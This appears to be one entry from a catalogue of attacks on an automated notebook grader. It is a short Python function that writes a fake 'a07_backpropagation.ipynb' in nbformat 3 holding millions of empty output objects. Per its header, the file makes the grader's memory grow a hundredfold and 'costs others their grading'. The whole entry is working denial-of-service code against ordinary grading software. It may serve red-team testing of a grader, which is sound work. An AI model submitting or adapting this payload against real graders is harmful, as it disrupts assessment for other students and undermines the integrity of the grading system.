# attack: 101
# title: megabytes of empty objects in a notebook of format 3
# success: the grader's memory grows to a hundred times the file
# kind: submission
# status: pending
# says: clear all outputs
# unshown: costs others their grading instead of forging
def build(folder, notebook):
    cell = '{"cell_type": "code", "input": "", "outputs": [' + "{}," * 4_000_000 + "{}]}"
    text = '{"nbformat": 3, "worksheets": [{"cells": [' + cell + "]}]}"
    (folder / "a07_backpropagation.ipynb").write_text(text)
